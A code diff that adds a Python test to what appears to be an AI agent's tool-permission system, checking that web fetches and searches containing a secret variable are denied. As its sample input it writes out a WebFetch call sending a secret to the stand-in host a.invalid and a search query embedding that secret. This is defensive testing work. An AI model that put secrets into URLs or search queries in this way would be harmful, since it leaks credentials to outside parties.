@@ -265,6 +265,22 @@ async def test_the_web_is_open_but_for_this_machine_and_its_network(
     assert heard == []
 
 
+async def test_an_address_or_a_search_with_a_known_secret_is_denied(stage: Any) -> None:
+    """No such host exists: nothing leaves this machine whatever the gate says."""
+    secret = "hunter2hunter2"
+    inputs = [
+        ("WebFetch", {"url": f"https://a.invalid/?q={secret}", "prompt": "read"}),
+        ("WebSearch", {"query": f"what is {secret}"}),
+    ]
+    calls = [{"tool": {"name": name, "input": input_}} for name, input_ in inputs]
+    played = await stage.play(
+        [*calls, {"text": "done"}], mode="full", walls="off", variables={"A": secret}, secret_variables=("A",)
+    )
+    found = played.of(events.ToolDecided)
+    assert [(decided.decision, decided.rule) for decided in found] == [("deny", "web")] * 2
+    assert all("secret" in decided.reason for decided in found)
+
+
 async def _has_own_network() -> bool:
     tried = await asyncio.create_subprocess_exec(*OWN_NETWORK, "true", stderr=asyncio.subprocess.DEVNULL)
     return await tried.wait() == 0
